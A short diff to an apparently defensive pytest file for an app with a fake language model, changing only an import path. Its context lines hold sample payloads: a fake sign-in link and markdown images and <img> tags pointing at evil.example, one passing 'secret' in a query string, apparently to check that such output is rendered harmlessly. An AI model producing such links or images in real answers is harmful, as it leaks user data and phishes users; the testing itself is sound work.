@@ -5,7 +5,8 @@ read as an image, a link or a tag (the browser-level proof is tests/browser/test
 from __future__ import annotations
 
 import pytest
-from app_helpers import answer_text, fresh_caches, open_app, use_fake_model
+
+from tests.helpers.app import answer_text, fresh_caches, open_app, use_fake_model
 
 LINKS = "[Click to sign in again](http://evil.example/login) ![x](http://evil.example/i.png) <img src=x>"
 ANSWER = "Done. ![status](http://evil.example/x?d=secret) <img src=http://evil.example/h.png> [more](http://evil.example/m)"
